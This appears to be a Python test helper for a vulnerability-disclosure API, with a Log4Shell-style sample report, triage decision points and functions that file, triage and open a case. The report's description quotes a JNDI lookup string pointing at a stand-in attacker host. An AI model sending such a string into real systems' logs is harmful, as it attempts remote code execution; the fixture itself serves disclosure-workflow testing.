"""Helpers for case tests: reports, triage points and cases through the HTTP API."""

from __future__ import annotations

from typing import Any

import httpx

COORDINATE = {
    "report_public": "no",
    "supplier_contacted": "yes",
    "report_credibility": "credible",
    "supplier_cardinality": "multiple",
    "supplier_engagement": "active",
    "utility": "super effective",
    "public_safety_impact": "significant",
}

LOG4SHELL_REPORT: dict[str, Any] = {
    "title": "Remote code execution through JNDI lookups in log messages",
    "product": "Apache Log4j2",
    "vendor": "Apache Software Foundation",
    "affected_versions": "2.0-beta9 to 2.14.1",
    "purl": "pkg:maven/org.apache.logging.log4j/log4j-core@2.14.1",
    "description": (
        "Log4j2 evaluates ${jndi:ldap://attacker/x} lookups inside logged messages, so any "
        "logged string that an attacker controls can make the JVM load and run a remote class."
    ),
    "impact": "Unauthenticated remote code execution on any server that logs user input.",
    "exploited": "no",
    "already_public": "no",
    "vendor_contacted": "yes",
    "disclosure_plans": "Coordinated disclosure once a fixed release is available.",
    "credit_preference": "name",
    "credit_as": "Chen Zhaojun of Alibaba Cloud Security Team",
}


def report(client: httpx.Client, **overrides: Any) -> dict[str, Any]:
    r = client.post("/api/v1/reports", json={**LOG4SHELL_REPORT, **overrides})
    assert r.status_code == 201, r.text
    return dict(r.json())


def triage_and_open(
    operator: httpx.Client, report_id: str, title: str = "Log4j2 JNDI RCE"
) -> dict[str, Any]:
    r = operator.post(f"/api/v1/reports/{report_id}/transitions",
                      json={"to": "valid", "reason": "reproduced"})
    assert r.status_code == 200, r.text
    r = operator.post(f"/api/v1/reports/{report_id}/triage", json={"points": COORDINATE})
    assert r.status_code == 201, r.text
    assert r.json()["outcome"] == "coordinate"
    r = operator.post(f"/api/v1/reports/{report_id}/case", json={"title": title})
    assert r.status_code == 201, r.text
    return dict(r.json())
